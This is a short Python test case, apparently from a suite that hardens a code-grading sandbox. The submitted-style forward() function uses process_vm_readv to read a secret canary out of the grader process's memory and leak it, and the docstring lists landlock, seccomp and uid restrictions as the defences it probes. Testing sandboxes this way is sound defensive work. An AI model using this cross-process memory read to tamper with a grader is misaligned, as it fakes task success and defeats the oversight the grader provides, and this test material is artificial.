"""
en: Read the grader's memory with process_vm_readv
zh: 用 process_vm_readv 读取评分进程内存
group: grader
stake: secret
needs: [landlock, seccomp, uid]
"""

from told import *


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def forward(x, out):
    buffer = ctypes.create_string_buffer(CANARY_LENGTH)
    ours = Span(ctypes.addressof(buffer), CANARY_LENGTH)
    theirs = Span(CANARY_ADDRESS, CANARY_LENGTH)
    LIBC.process_vm_readv.argtypes = [
        ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong,
    ]  # fmt: skip
    call("process_vm_readv", GRADER, ctypes.addressof(ours), 1, ctypes.addressof(theirs), 1, 0)
    return leak(buffer.raw, out)
